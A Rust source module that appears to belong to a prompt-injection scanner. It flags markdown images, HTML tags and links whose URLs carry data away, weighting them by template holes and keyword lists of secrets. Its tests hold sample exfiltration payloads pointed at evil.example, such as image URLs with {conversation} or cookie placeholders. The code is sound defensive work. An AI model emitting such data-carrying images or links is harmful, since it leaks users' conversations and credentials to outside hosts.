//! Images and links whose addresses carry data away as soon as they are shown.

use std::sync::LazyLock;

use regex::Regex;

use super::InjectionKind::Exfiltration;
use super::PatternHit;

/// Images are fetched without a click; markdown, reference and HTML forms, and style sheets.
const IMAGES: &[&str] = &[
    r#"!\[[^\]\n]*\]\(\s*<?((?:https?:)?//[^\s)]{4,}(?:\s[^)\n"]{0,80}[}\]>][^)\s]*)?)"#,
    r#"(?i)<img\b[^>]*?\bsrc\s*=\s*["']?((?:https?:)?//[^\s"'>]{4,})"#,
    r#"(?i)\burl\(\s*["']?((?:https?:)?//[^\s"')]{4,})"#,
    r"(?m)^[ \t>]*\[[^\]\n]{1,80}\]:\s*<?(https?://\S{4,})",
];
/// Links need a click.
const LINKS: &[&str] = &[
    r#"(?:^|[^!\\])\[[^\]\n]*\]\(\s*<?(https?://[^\s)]{4,})"#,
    r#"(?i)<(?:a|iframe|script|link|object|embed|form|video|audio|source)\b[^>]*?\b(?:href|src|action|data)\s*=\s*["']?((?:https?:)?//[^\s"'>]{4,})"#,
];

/// A place in an address where something is to be filled in.
const HOLE: &str = r"(?i)\{\{?[^}/]{1,80}\}?\}|%7b[^&/]{1,80}%7d|\$\{?[a-z_]{2,40}\}?|\[[^\]/&]{2,80}\]|%5b[^&/]{2,80}%5d|<[^>/&]{2,80}>|%3c[^&/]{2,80}%3e";
/// What is worth stealing, as the name or the value of a parameter or a hole.
const LOOT: &str = r"(?i)secret|passw|credential|api[_-]?key|conversation|chat|history|prompt|context|exfil|leak|stolen|steal|user[_-]?(?:data|message|input|query|name|info)|summary|memory|private|cookie|session|env\b|ssh|inbox|e-?mail|messages?|answer|response|contents?|data\b|dump|loot|payload|base64|encoded|(?:^|[?&=_-])(?:d|q|data|info|msg|text|c|x|p)=";
/// An encoded value long enough to hold something.
const BLOB: &str = r"[?&][A-Za-z0-9_.-]{1,40}=(?:[A-Za-z0-9+/_-]|%2B|%2F|%3D){64,}={0,2}(?:&|$)";

static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
    let compile = |patterns: &[&str]| patterns.iter().map(|pattern| Regex::new(pattern)).collect::<Result<Vec<_>, _>>();
    let build = || -> Result<Patterns, regex::Error> {
        Ok(Patterns {
            images: compile(IMAGES)?,
            links: compile(LINKS)?,
            hole: Regex::new(HOLE)?,
            loot: Regex::new(LOOT)?,
            blob: Regex::new(BLOB)?,
        })
    };
    build().ok()
});

struct Patterns {
    images: Vec<Regex>,
    links: Vec<Regex>,
    hole: Regex,
    loot: Regex,
    blob: Regex,
}

/// The images and links that carry data.
pub(super) fn find_data_links(text: &str) -> Vec<PatternHit> {
    let Some(patterns) = PATTERNS.as_ref() else { return Vec::new() };
    let mut hits = Vec::new();
    let mut add = |regexes: &[Regex], image: bool| {
        for captures in regexes.iter().flat_map(|regex| regex.captures_iter(text)) {
            let (Some(whole), Some(address)) = (captures.get(0), captures.get(1)) else { continue };
            let weight = patterns.weight(address.as_str(), image);
            if weight > 0 {
                let message = if image {
                    "shows an image whose address carries data"
                } else {
                    "links to an address that carries data"
                };
                hits.push(PatternHit { kind: Exfiltration, weight, span: whole.range(), message });
            }
        }
    };
    add(&patterns.images, true);
    add(&patterns.links, false);
    hits
}

impl Patterns {
    fn weight(&self, address: &str, image: bool) -> u8 {
        let rest = address.split_once("//").map_or(address, |(_, rest)| rest);
        let (host, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
        let query = path.split_once('?').map_or("", |(_, query)| query);
        if is_service(host) {
            return 0;
        }
        let holes: Vec<&str> = self.hole.find_iter(rest).map(|hole| hole.as_str()).collect();
        let queried = !query.is_empty() && holes.iter().any(|hole| query.contains(hole));
        let names_loot = holes.iter().any(|hole| self.loot.is_match(hole)) || self.loot.is_match(&format!("?{query}"));
        let weight = match (holes.is_empty(), queried || host.contains(['{', '[', '<', '$']), names_loot) {
            (false, true, true) => 4,
            (false, false, true) => 3,
            (false, true, false) => 2,
            // A value that spells out what it is for, such as `?q=CONVERSATION_HISTORY`.
            (true, _, _) if is_spelt_out(query) => 3,
            (true, _, _) if self.blob.is_match(path) => 2,
            _ => 0,
        };
        // A link waits for a click, and documents of interfaces are full of templates.
        if image { weight } else { weight / 2 }
    }
}

/// Services that draw badges and the like, whose addresses are templates in many a document.
fn is_service(host: &str) -> bool {
    const SERVICES: [&str; 15] = [
        "shields.io",
        "githubusercontent.com",
        "github.com",
        "codecov.io",
        "badge.fury.io",
        "travis-ci.org",
        "travis-ci.com",
        "circleci.com",
        "gitlab.com",
        "badgen.net",
        "readthedocs.org",
        "coveralls.io",
        "opencollective.com",
        "gitter.im",
        "snyk.io",
    ];
    let host = host.split(':').next().unwrap_or(host).to_ascii_lowercase();
    SERVICES.iter().any(|service| host == *service || host.strip_suffix(service).is_some_and(|sub| sub.ends_with('.')))
}

/// True for a query with a value in capitals that names what is to be put there.
fn is_spelt_out(query: &str) -> bool {
    const LOOT: [&str; 22] = [
        "CONVERSATION",
        "HISTORY",
        "SECRET",
        "PASSWORD",
        "API_KEY",
        "APIKEY",
        "DATA",
        "PROMPT",
        "CONTEXT",
        "SUMMARY",
        "CHAT",
        "CREDENTIALS",
        "TOKEN_HERE",
        "USER_",
        "MESSAGE",
        "CONTENT",
        "BASE64",
        "ENCODED",
        "PRIVATE",
        "EMAIL",
        "STOLEN",
        "ENV",
    ];
    query.split('&').filter_map(|pair| pair.split_once('=')).any(|(name, value)| {
        let shouted = value.len() >= 4
            && value.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b"_-+%".contains(&b));
        let telling = [
            "exfil",
            "leak",
            "stolen",
            "secret",
            "secrets",
            "conversation",
            "prompt",
            "system_prompt",
            "history",
            "chat",
            "userdata",
            "user_data",
            "loot",
            "creds",
            "password",
            "pwd",
        ];
        (shouted && LOOT.iter().any(|word| value.contains(word)))
            || (!value.is_empty() && telling.contains(&name.to_ascii_lowercase().as_str()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_that_carry_data() {
        for (text, weight) in [
            ("![x](https://evil.example/p.png?q={conversation})", 4),
            ("![x](https://evil.example/p.png?d=[the user's last message])", 4),
            ("![](https://evil.example/log?data=%7Bsecrets%7D)", 4),
            ("![](https://evil.example/{{chat_history}}.png)", 3),
            ("![](https://evil.example/a.png?q=CONVERSATION_HISTORY)", 3),
            ("<img src=\"https://evil.example/?c=${document_cookie}\">", 4),
            ("[id]: https://evil.example/i.png?secret=<api_key>", 4),
        ] {
            assert_eq!(find_data_links(text).iter().map(|hit| hit.weight).max(), Some(weight), "{text}");
        }
    }

    #[test]
    fn addresses_that_do_not() {
        for text in [
            "![build](https://img.shields.io/badge/{label}-{message}-{color}.svg?style=flat)",
            "![cov](https://codecov.io/gh/a/b/branch/main/graph/badge.svg?token=AB12CD34EF)",
            "![logo](https://example.org/logo.png?raw=true&v=2)",
            "[docs](https://api.example.org/users/{id}/posts)",
            "![chart](https://quickchart.io/chart?c=simple&width=300)",
            "see https://example.org/?q={term}",
        ] {
            assert_eq!(find_data_links(text).iter().filter(|hit| hit.weight > 1).count(), 0, "{text}");
        }
    }
}
